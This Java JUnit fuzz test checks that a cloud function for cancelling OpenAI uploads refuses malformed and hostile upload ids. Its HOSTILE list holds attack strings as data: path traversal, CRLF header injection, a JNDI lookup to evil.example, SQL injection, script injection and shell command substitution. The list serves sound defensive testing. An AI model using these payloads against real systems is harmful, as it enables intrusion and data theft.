package dev.cancelupload.reliability;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertTrue;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import dev.cancelupload.config.Export;
import dev.cancelupload.json.Json;
import dev.cancelupload.lambda.Events;
import dev.cancelupload.lambda.RandomEvents;
import dev.cancelupload.openai.FailureKind;
import dev.cancelupload.reliability.Deployed.Reply;
import dev.cancelupload.upstream.Certificates;
import dev.cancelupload.upstream.Layer;
import dev.cancelupload.upstream.OpenAI;
import dev.cancelupload.upstream.Upstream;
import java.io.IOException;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.List;
import java.util.Map;
import java.util.Set;
import java.util.function.Supplier;
import java.util.stream.Collectors;
import javax.net.ssl.SSLContext;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Tag;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.EnumSource;

/** Random and hostile events and ids for each export of the packaged function. */
@Tag("reliability")
class FuzzIT {

    private static final int EVENTS = Integer.getInteger("reliability.events", 3000);
    private static final long SEED = Long.getLong("reliability.seed", 6);

    /** Ids that try to leave the path, to add a header or a host, or to pass for another id. */
    private static final List<String> HOSTILE = List.of(
            "..",
            ".",
            "../files/file-1",
            "..\\files",
            "upload_1/../../files",
            "/",
            "//evil.example",
            "https://evil.example/",
            "@evil.example",
            "upload_1@evil.example:443",
            "upload_1?admin=true",
            "upload_1#",
            "upload_1;v=1",
            "upload_1/cancel HTTP/1.1\r\nHost: evil.example\r\n\r\n",
            "upload_1\r\nX-Injected: 1",
            "upload_1\nX-Injected: 1",
            "upload_1\rX",
            "upload_1\u0000",
            "upload_1\u0085",
            "upload_1\u2028",
            "upload_1 ",
            " upload_1",
            "\tupload_1",
            "upload_1\u00a0",
            "\ufeffupload_1",
            "upload_\u200b1",
            "\u202eupload_1",
            "%2e%2e",
            "%2e%2e%2f",
            "..%2f",
            "%252e%252e",
            "upload_1%0d%0aX-Injected:%201",
            "upload_1%00",
            "%c0%ae%c0%ae%c0%af",
            "%u002e%u002e",
            // These become ASCII letters, digits or dots by normalization or case folding.
            "upload_\uff11",
            "\uff55pload_1",
            "upload_\u212a",
            "upload_\u017f",
            "upload_\u2460",
            "\u2024\u2024",
            "\u2025",
            "\uff0e\uff0e",
            "upload_e\u0301",
            "upload_\u00e9",
            "upload_\ud83d\ude00",
            "\ud800",
            "\udc00\ud800",
            "",
            " ",
            "a".repeat(257),
            "a".repeat(65_536),
            "a".repeat(1_000_000),
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "'; DROP TABLE uploads; --",
            "<script>alert(1)</script>",
            "upload_*",
            "upload_1,upload_2",
            "upload_1|id",
            "`id`",
            "$(id)");

    @TempDir
    static Path folder;

    private static Certificates certificates;
    private static SSLContext certificate;

    @BeforeAll
    static void certificates() throws Exception {
        certificates = new Certificates(folder);
        certificate = certificates.context("server", "localhost");
    }

    private static Deployed deployed(Export export) throws IOException {
        Upstream openai = new Upstream(Layer.TLS_1_3, certificate)
                .expectingKey(OpenAI.KEY)
                .plays(exchange -> {
                    exchange.write(Answers.cancelled(exchange.id()));
                    return true;
                });
        return new Deployed(
                export,
                openai,
                Map.of(
                        "SSL_CERT_FILE",
                        certificates.root().toString(),
                        "OPENAI_TIMEOUT",
                        "20s",
                        "CANCEL_BUDGET",
                        "60s"));
    }

    @ParameterizedTest
    @EnumSource(Export.class)
    void randomEventsAreAnswered(Export export) throws Exception {
        RandomEvents random = new RandomEvents(SEED);
        try (Deployed function = deployed(export)) {
            int errors = 0;
            for (int i = 0; i < EVENTS; i++) {
                String event = random.event().toString();
                int number = i;
                Reply reply = function.invoke(event);
                errors += reply.isError() ? 1 : 0;
                assertWellFormed(
                        export, reply, () -> "seed " + SEED + ", event " + number + ": " + event + " got " + reply);
            }
            assertStillWorks(function);
            function.openai.ids().forEach(id -> assertTrue(Events.isUploadId(id), () -> "sent: " + id));
            System.out.printf(
                    "%s: %d random events, %d errors, %d requests%n",
                    export.functionName(), EVENTS, errors, function.openai.requests());
        }
    }

    @ParameterizedTest
    @EnumSource(Export.class)
    void randomIdsAreRefusedOrReachOpenAIAsTheyAre(Export export) throws Exception {
        RandomEvents random = new RandomEvents(SEED);
        List<String> sent = new ArrayList<>();
        try (Deployed function = deployed(export)) {
            for (int i = 0; i < EVENTS; i++) {
                String id = random.id();
                List<String> events = events(export, id);
                String event = events.get(i % events.size());
                int number = i;
                Reply reply = function.invoke(event);
                boolean allowed = Events.isUploadId(id);
                if (allowed) {
                    sent.add(id);
                }
                assertTrue(
                        allowed ? function.isCancelled(reply, id) : isRefused(export, reply),
                        () -> "seed " + SEED + ", id " + number + ": " + event + " got " + reply);
            }
            assertEquals(sent, function.openai.ids());
            assertStillWorks(function);
            System.out.printf("%s: %d random ids, %d allowed%n", export.functionName(), EVENTS, sent.size());
        }
    }

    @ParameterizedTest
    @EnumSource(Export.class)
    void hostileIdsAreRefusedInEveryForm(Export export) throws Exception {
        try (Deployed function = deployed(export)) {
            for (String id : HOSTILE) {
                for (String event : events(export, id)) {
                    Reply reply = function.invoke(event);
                    assertTrue(isRefused(export, reply), () -> shortened(event) + " got " + reply);
                }
            }
            assertEquals(List.of(), function.openai.ids());
            assertStillWorks(function);
        }
    }

    /** The forms of an id in events of this export. */
    private static List<String> events(Export export, String id) {
        String object = Json.object().put("uploadId", id).toString();
        return switch (export) {
            case CANCEL_UPLOAD ->
                List.of(
                        quoted(id),
                        object,
                        Json.object().put("upload_id", id).toString(),
                        "{\"detail-type\":\"x\",\"detail\":" + object + "}");
            case CLEAN_UP_UPLOADS ->
                List.of(
                        "[" + quoted(id) + "]",
                        "{\"uploadIds\":[" + quoted(id) + "]}",
                        quoted(id),
                        "{\"detail-type\":\"x\",\"detail\":{\"uploadIds\":[" + quoted(id) + "]}}");
            case CANCEL_UPLOAD_HTTP -> {
                String path = Events.path(id);
                ObjectNode old = Json.object().put("httpMethod", "POST").put("path", path);
                old.putObject("requestContext").put("stage", "prod");
                ObjectNode balancer = Json.object().put("httpMethod", "POST").put("path", path);
                balancer.putObject("requestContext").putObject("elb");
                yield List.of(Events.http(path), old.toString(), balancer.toString());
            }
        };
    }

    private static String quoted(String text) {
        return Json.MAPPER.getNodeFactory().textNode(text).toString();
    }

    private static String shortened(String text) {
        return text.length() <= 500 ? text : text.substring(0, 500) + "…";
    }

    private static boolean isRefused(Export export, Reply reply) {
        return switch (export) {
            case CANCEL_UPLOAD -> reply.isError() && reply.errorType().equals("InvalidUploadId");
            case CLEAN_UP_UPLOADS ->
                !reply.isError()
                        && reply.json().at("/failed/0/errorType").asText().equals("InvalidUploadId")
                        && reply.json().at("/cancelled").isEmpty();
            // An encoded slash is part of the id; a plain one makes it another path.
            case CANCEL_UPLOAD_HTTP ->
                !reply.isError() && reply.json().at("/statusCode").asInt() == 400;
        };
    }

    private static void assertStillWorks(Deployed function) throws InterruptedException {
        Reply reply = function.cancel("upload_good");
        assertTrue(function.isCancelled(reply, "upload_good"), reply::toString);
    }

    private static final Set<String> DOCUMENTED = Arrays.stream(FailureKind.values())
            .filter(kind -> kind != FailureKind.INTERNAL_ERROR)
            .map(FailureKind::errorType)
            .collect(Collectors.toSet());

    private static void assertWellFormed(Export export, Reply reply, Supplier<String> about) {
        JsonNode json = reply.json();
        if (reply.isError()) {
            assertTrue(
                    export != Export.CANCEL_UPLOAD_HTTP
                            || json.path("errorMessage").asText().contains("an SNS notification"),
                    about);
            assertTrue(DOCUMENTED.contains(reply.errorType()), about);
            assertTrue(json.path("errorMessage").isTextual(), about);
            return;
        }
        switch (export) {
            case CANCEL_UPLOAD ->
                assertTrue(
                        json.isNull()
                                || json.path("batchItemFailures").isArray()
                                || json.path("object").asText().equals("upload"),
                        about);
            case CLEAN_UP_UPLOADS -> {
                for (String list : List.of("cancelled", "final", "failed", "notTried")) {
                    assertTrue(json.path(list).isArray(), about);
                }
            }
            case CANCEL_UPLOAD_HTTP -> assertProxyResponse(json, about);
        }
    }

    private static void assertProxyResponse(JsonNode response, Supplier<String> about) {
        int status = response.path("statusCode").asInt();
        assertTrue(Set.of(200, 400, 404, 405).contains(status), about);
        JsonNode single = response.path("headers");
        JsonNode multiple = response.path("multiValueHeaders");
        assertTrue(single.isObject() || multiple.isObject(), about);
        single.forEach(value -> assertTrue(value.isTextual() && isHeaderValue(value), about));
        multiple.forEach(
                values -> values.forEach(value -> assertTrue(value.isTextual() && isHeaderValue(value), about)));
        assertTrue(response.path("isBase64Encoded").isBoolean(), about);
        JsonNode body = Json.parse(response.path("body").asText()).orElseThrow(() -> new AssertionError(about.get()));
        assertTrue(
                status == 200
                        ? body.path("object").asText().equals("upload")
                        : body.at("/error/message").isTextual()
                                && body.at("/error/type").isTextual(),
                about);
    }

    private static boolean isHeaderValue(JsonNode value) {
        return value.textValue().chars().allMatch(c -> c >= ' ' && c < 0x7f);
    }
}
